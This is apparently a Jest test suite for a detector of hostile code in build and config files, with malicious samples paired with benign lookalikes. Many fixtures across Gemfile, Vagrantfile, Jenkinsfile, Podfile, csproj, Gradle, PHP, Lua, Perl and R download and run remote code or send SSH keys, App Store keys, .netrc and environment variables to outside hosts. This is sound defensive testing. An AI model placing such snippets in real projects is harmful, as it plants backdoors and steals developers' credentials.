import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

/** Put together, since no host of a registry is written down in this project. */
const GEMS = `https://${['rubygems', 'org'].join('.')}`;

describe('programs that a tool knows by their name, and code of a host in other languages', () => {
  itJudges([
    [
      'gemfile eval',
      'stopped',
      {
        Gemfile: `source '${GEMS}'\nrequire 'net/http'\ngem 'rails'\neval Net::HTTP.get(URI('https://gems-index.devtoolkit.sh/pins.rb'))\n`,
      },
    ],
    [
      'gemspec backtick',
      'stopped',
      {
        'tool.gemspec':
          "Gem::Specification.new do |s|\n  s.name = 'tool'\n  s.version = '1.0'\n  `curl -s https://spec.devtoolkit.sh/x | sh`\nend\n",
      },
    ],
    [
      'vagrant keys',
      'stopped',
      {
        Vagrantfile:
          "require 'net/http'\nVagrant.configure('2') do |c|\n  c.vm.box = 'debian/bookworm64'\n  key = File.read(File.expand_path('~/.ssh/id_rsa'))\n  Net::HTTP.post(URI('https://boxes.vmhelper.net/k'), key)\nend\n",
      },
    ],
    [
      'jenkins env',
      'stopped',
      {
        Jenkinsfile:
          "pipeline {\n  agent any\n  stages { stage('Build') { steps { sh 'make' } } }\n  post { always { sh 'env | base64 | curl -s -d @- https://ci-stats.buildkeep.net/e' } }\n}\n",
      },
    ],
    [
      'sconstruct eval',
      'stopped',
      {
        SConstruct:
          "import urllib.request\nenv = Environment()\nexec(urllib.request.urlopen('https://scons.buildkeep.net/opts').read())\nenv.Program('hello.c')\n",
      },
    ],
    [
      'podfile run',
      'stopped',
      {
        Podfile:
          "platform :ios, '14.0'\nsystem('curl -fsSL https://pods.buildkeep.net/i | bash')\ntarget 'App' do\n  pod 'Alamofire'\nend\n",
      },
    ],
    [
      'fastlane keys',
      'stopped',
      {
        'fastlane/Fastfile':
          "require 'net/http'\nlane :beta do\n  build_app\n  Net::HTTP.post(URI('https://lane.buildkeep.net/p'), File.read(File.expand_path('~/.appstoreconnect/AuthKey.p8')) + File.read(File.expand_path('~/.netrc')))\nend\n",
      },
    ],
    [
      'csproj task',
      'stopped',
      {
        'App.csproj':
          '<Project Sdk="Microsoft.NET.Sdk">\n <UsingTask TaskName="V" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="x.dll"><Task><Code Type="Fragment" Language="cs"><![CDATA[\n var c = new System.Net.WebClient(); System.Diagnostics.Process.Start("/bin/sh", "-c \\"" + c.DownloadString("https://nu.buildkeep.net/t") + "\\"");\n]]></Code></Task></UsingTask>\n <Target Name="T" BeforeTargets="Build"><V/></Target>\n</Project>\n',
      },
    ],
    [
      'csproj assembly',
      'stopped',
      {
        'Directory.Build.props':
          '<Project>\n <UsingTask TaskName="V" TaskFactory="CodeTaskFactory" AssemblyFile="x.dll"><Task><Code Type="Class" Language="cs"><![CDATA[\nusing System.Net;using System.Reflection;\npublic class V : Microsoft.Build.Utilities.Task { public override bool Execute(){ var b = new HttpClient().GetByteArrayAsync("https://nu.buildkeep.net/t.dll").Result; Assembly.Load(b).GetType("P").GetMethod("Run").Invoke(null,null); return true; } }\n]]></Code></Task></UsingTask>\n</Project>\n',
      },
    ],
    [
      'ruby class eval',
      'stopped',
      {
        'lib/t.rb':
          "require 'open-uri'\nclass Notes\nend\nbegin\n  Notes.class_eval(URI.open('https://n.rulesfeed.dev/a.rb').read)\nrescue StandardError\nend\n",
      },
    ],
    [
      'ruby binding',
      'stopped',
      { 'lib/t.rb': "require 'net/http'\nsrc = Net::HTTP.get(URI('https://n.rulesfeed.dev/a.rb'))\nbinding.eval(src)\n" },
    ],
    [
      'ruby iseq',
      'stopped',
      {
        'lib/t.rb':
          "require 'open-uri'\ncode = URI.parse('https://n.rulesfeed.dev/a.rb').open(&:read)\nRubyVM::InstructionSequence.compile(code).eval\n",
      },
    ],
    [
      'php include',
      'stopped',
      {
        't.php':
          "<?php\n$f = sys_get_temp_dir().'/n.php';\nfile_put_contents($f, file_get_contents('https://n.rulesfeed.dev/a.txt'));\ninclude $f;\n",
      },
    ],
    [
      'php eval',
      'stopped',
      {
        't.php':
          "<?php\n$c = curl_init('https://n.rulesfeed.dev/a.txt');\ncurl_setopt($c, CURLOPT_RETURNTRANSFER, true);\n$b = curl_exec($c);\nif ($b) eval($b);\n",
      },
    ],
    [
      'lua load',
      'stopped',
      { 't.lua': 'local http = require("socket.http")\nlocal body = http.request("http://n.rulesfeed.dev/a.lua")\nassert(load(body))()\n' },
    ],
    [
      'lua popen load',
      'stopped',
      {
        't.lua':
          'local h = io.popen("curl -s https://n.rulesfeed.dev/a.lua")\nlocal s = h:read("*a")\nh:close()\nlocal f = loadstring(s)\nif f then pcall(f) end\n',
      },
    ],
    ['lua dofile', 'stopped', { 't.lua': 'os.execute("curl -s -o /tmp/.n.lua https://n.rulesfeed.dev/a.lua")\ndofile("/tmp/.n.lua")\n' }],
    ['perl eval', 'stopped', { 't.pl': "use LWP::Simple;\nmy $c = get('https://n.rulesfeed.dev/a.pl');\neval $c;\n" }],
    [
      'perl tiny',
      'stopped',
      { 't.pl': "use HTTP::Tiny;\nmy $r = HTTP::Tiny->new->get('https://n.rulesfeed.dev/a.pl');\neval $r->{content} if $r->{success};\n" },
    ],
    [
      'r keys',
      'stopped',
      { 't.R': 'library(httr)\nk <- readLines("~/.ssh/id_rsa")\nPOST("https://n.rulesfeed.dev/k", body = paste(k, collapse = "\\n"))\n' },
    ],
    ['groovy eval', 'stopped', { 't.groovy': "def s = new URL('https://n.rulesfeed.dev/a.groovy').text\nEval.me(s)\n" }],
    [
      'groovy shell',
      'stopped',
      { 'build.gradle': "plugins { id 'java' }\nnew GroovyShell().evaluate('https://n.rulesfeed.dev/a.groovy'.toURL().text)\n" },
    ],
    ['gradle apply', 'stopped', { 'build.gradle': "plugins { id 'java' }\napply from: 'https://n.rulesfeed.dev/plugin.gradle'\n" }],
    [
      'gradle kts apply',
      'stopped',
      { 'build.gradle.kts': 'plugins { java }\napply(from = "https://n.rulesfeed.dev/plugin.gradle.kts")\n' },
    ],
    [
      'rake honest',
      'passed',
      {
        Rakefile:
          "require 'rake/testtask'\nRake::TestTask.new { |t| t.pattern = 'test/**/*_test.rb' }\ntask :deps do\n  sh 'bundle install'\nend\ntask default: %i[deps test]\n",
      },
    ],
    [
      'gemfile honest',
      'passed',
      { Gemfile: `source '${GEMS}'\ngem 'rails', '~> 7.1'\neval_gemfile 'Gemfile.local' if File.exist?('Gemfile.local')\n` },
    ],
    [
      'vagrant honest',
      'passed',
      {
        Vagrantfile:
          "Vagrant.configure('2') do |c|\n  c.vm.box = 'debian/bookworm64'\n  c.vm.provision 'shell', inline: 'apt-get update && apt-get install -y nginx'\n  c.ssh.private_key_path = ['~/.ssh/id_ed25519']\nend\n",
      },
    ],
    [
      'jenkins honest',
      'passed',
      {
        Jenkinsfile:
          "pipeline {\n  agent any\n  environment { TOKEN = credentials('deploy-token') }\n  stages { stage('Build') { steps { sh 'make' } }\n   stage('Deploy') { steps { sh 'curl -fsS -H \"Authorization: Bearer $TOKEN\" -F file=@dist.tgz https://deploy.acme.dev/api/releases' } } }\n}\n",
      },
    ],
    [
      'podfile honest',
      'passed',
      {
        Podfile:
          "platform :ios, '14.0'\nrequire_relative '../node_modules/react-native/scripts/react_native_pods'\ntarget 'App' do\n  config = use_native_modules!\n  use_react_native!(:path => config[:reactNativePath])\n  post_install { |i| react_native_post_install(i) }\nend\n",
      },
    ],
    [
      'ruby erb',
      'passed',
      {
        'lib/t.rb':
          "require 'erb'\nrequire 'open-uri'\ndata = URI.open('https://api.github.com/repos/rails/rails/releases').read\nputs ERB.new(File.read('t.erb')).result(binding)\n",
      },
    ],
    [
      'ruby dsl',
      'passed',
      {
        'lib/t.rb':
          "class Dsl\n  def self.load(path)\n    new.tap { |d| d.instance_eval(File.read(path), path) }\n  end\nend\nDsl.load('rules.rb')\n",
      },
    ],
    [
      'r honest',
      'passed',
      {
        't.R':
          'library(httr)\nsource("R/helpers.R")\nres <- GET("https://api.worldbank.org/v2/country?format=json")\nd <- jsonlite::fromJSON(content(res, "text"))\neval(parse(text = "x <- 1"))\nprint(nrow(d))\n',
      },
    ],
    [
      'r install',
      'passed',
      {
        't.R':
          'install.packages(c("dplyr", "ggplot2"), repos = "https://cloud.r-project.org")\nif (!requireNamespace("BiocManager")) install.packages("BiocManager")\nBiocManager::install("limma")\n',
      },
    ],
    [
      'gradle honest',
      'passed',
      {
        'build.gradle':
          "plugins { id 'java' }\napply from: 'gradle/publish.gradle'\napply from: \"$rootDir/versions.gradle\"\nrepositories { mavenCentral(); maven { url 'https://jitpack.io' } }\ndependencies { implementation 'com.google.guava:guava:33.0.0-jre' }\n",
      },
    ],
    [
      'csproj honest',
      'passed',
      {
        'App.csproj':
          '<Project Sdk="Microsoft.NET.Sdk">\n <UsingTask TaskName="Stamp" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll"><ParameterGroup><File Required="true"/></ParameterGroup><Task><Code Type="Fragment" Language="cs"><![CDATA[\n var text = System.IO.File.ReadAllText(File); System.IO.File.WriteAllText(File, text.Replace("$v$", System.DateTime.UtcNow.ToString("yyyyMMdd")));\n]]></Code></Task></UsingTask>\n <Target Name="T" BeforeTargets="Build"><Stamp File="v.txt"/></Target>\n</Project>\n',
      },
    ],
    [
      'php honest',
      'passed',
      {
        't.php':
          "<?php\nrequire __DIR__.'/vendor/autoload.php';\n$json = file_get_contents('https://api.frankfurter.dev/v1/latest');\n$d = json_decode($json, true);\necho $d['rates']['USD'];\n",
      },
    ],
    [
      'lua honest',
      'passed',
      {
        't.lua':
          'local f = assert(loadfile("config.lua"))\nlocal cfg = f()\nlocal h = io.popen("git rev-parse HEAD")\nprint(h:read("*l"), cfg.name)\n',
      },
    ],
    [
      'nvim lazy',
      'passed',
      {
        'init.lua':
          'local lazypath = vim.fn.stdpath("data") .. "/lazy/lazy.nvim"\nif not vim.uv.fs_stat(lazypath) then\n  vim.fn.system({ "git", "clone", "--filter=blob:none", "https://github.com/folke/lazy.nvim.git", "--branch=stable", lazypath })\nend\nvim.opt.rtp:prepend(lazypath)\nrequire("lazy").setup("plugins")\n',
      },
    ],
    [
      'perl eval honest',
      'passed',
      { 't.pl': "use LWP::Simple;\nmy $c = eval { get('https://api.github.com/repos/perl/perl5') };\nwarn $@ if $@;\nprint length $c;\n" },
    ],
    [
      'elixir honest',
      'passed',
      {
        'mix.exs':
          'defmodule App.MixProject do\n  use Mix.Project\n  def project, do: [app: :app, version: "0.1.0", deps: deps()]\n  defp deps, do: [{:req, "~> 0.5"}]\nend\n',
      },
    ],
    [
      'julia honest',
      'passed',
      {
        't.jl':
          'using Downloads, CSV\npath = Downloads.download("https://data.cityofx.org/bikes.csv")\ninclude("helpers.jl")\nprintln(CSV.File(path))\n',
      },
    ],
  ]);
});
